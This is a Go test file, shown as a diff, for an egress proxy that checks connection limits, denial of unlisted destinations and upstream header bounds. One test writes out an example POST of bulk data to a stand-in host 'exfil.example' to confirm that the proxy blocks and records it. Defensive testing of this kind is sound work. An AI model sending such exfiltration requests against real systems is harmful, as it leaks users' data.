@@ -1,0 +1,132 @@
+package egress
+
+import (
+	"bufio"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+// Connections beyond MaxConns get 503 at once; the ones inside keep working.
+func TestProxyMaxConns(t *testing.T) {
+	t.Parallel()
+	tp := newTestProxy(t, []string{"example.com"}, nil, func(o *ProxyOptions) { o.MaxConns = 2 })
+	held := []net.Conn{tp.dial(t), tp.dial(t)}
+	for _, c := range held {
+		io.WriteString(c, "G") // inside a request: the proxy waits for the rest
+	}
+	time.Sleep(50 * time.Millisecond)
+	c := tp.dial(t)
+	c.SetDeadline(time.Now().Add(5 * time.Second))
+	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if resp.StatusCode != http.StatusServiceUnavailable {
+		t.Errorf("status %d, want 503", resp.StatusCode)
+	}
+	held[0].Close()
+	held[1].Close()
+	// Once they are gone, connections are served again.
+	deadline := time.Now().Add(5 * time.Second)
+	for {
+		c := tp.dial(t)
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\n\r\n")
+		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+		if err == nil && resp.StatusCode == http.StatusBadRequest {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("not served again: %v %v", resp, err)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+// A denied request whose body the proxy never reads still gets its 403
+// (no reset from closing with unread data).
+func TestProxyDenialWithUnreadBody(t *testing.T) {
+	t.Parallel()
+	tp := newTestProxy(t, nil, nil, nil)
+	for range 5 {
+		c := tp.dial(t)
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		body := strings.Repeat("b", 200_000)
+		go fmt.Fprintf(c, "POST http://exfil.example/ HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
+		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+		if err != nil {
+			t.Fatalf("no response: %v", err)
+		}
+		if resp.StatusCode != http.StatusForbidden {
+			t.Fatalf("status %d", resp.StatusCode)
+		}
+		if rec := tp.rec.next(t); rec.Code != CodeNotListed || rec.Method != "POST" {
+			t.Errorf("record %+v", rec)
+		}
+	}
+}
+
+// An upstream that never ends its headers, or is too slow to start its
+// response, is cut off with 502 or 504.
+func TestProxyUpstreamHeaderBounds(t *testing.T) {
+	t.Parallel()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				br := bufio.NewReader(c)
+				req, err := http.ReadRequest(br)
+				if err != nil {
+					return
+				}
+				if req.URL.Path == "/slow" {
+					time.Sleep(2 * time.Second)
+					return
+				}
+				io.WriteString(c, "HTTP/1.1 200 OK\r\n")
+				for range 20_000 {
+					if _, err := io.WriteString(c, "X-Junk: "+strings.Repeat("j", 100)+"\r\n"); err != nil {
+						return
+					}
+				}
+			}()
+		}
+	}()
+	target := "127.0.0.1:" + strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
+	for path, want := range map[string]int{"/junk": http.StatusBadGateway, "/slow": http.StatusGatewayTimeout} {
+		tp := newTestProxy(t, []string{target}, nil, func(o *ProxyOptions) {
+			o.MaxHeaderBytes = 4096
+			if path == "/slow" {
+				o.ResponseHeaderTimeout = 300 * time.Millisecond
+			}
+		})
+		c := tp.dial(t)
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		fmt.Fprintf(c, "GET http://%s%s HTTP/1.1\r\nHost: %s\r\n\r\n", target, path, target)
+		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+		if err != nil {
+			t.Fatalf("%s: %v", path, err)
+		}
+		if resp.StatusCode != want {
+			t.Errorf("%s: status %d, want %d", path, resp.StatusCode, want)
+		}
+		if rec := tp.rec.next(t); !rec.Allow || rec.Code != CodeUpstream || rec.Error == "" {
+			t.Errorf("%s: record %+v", path, rec)
+		}
+	}
+}
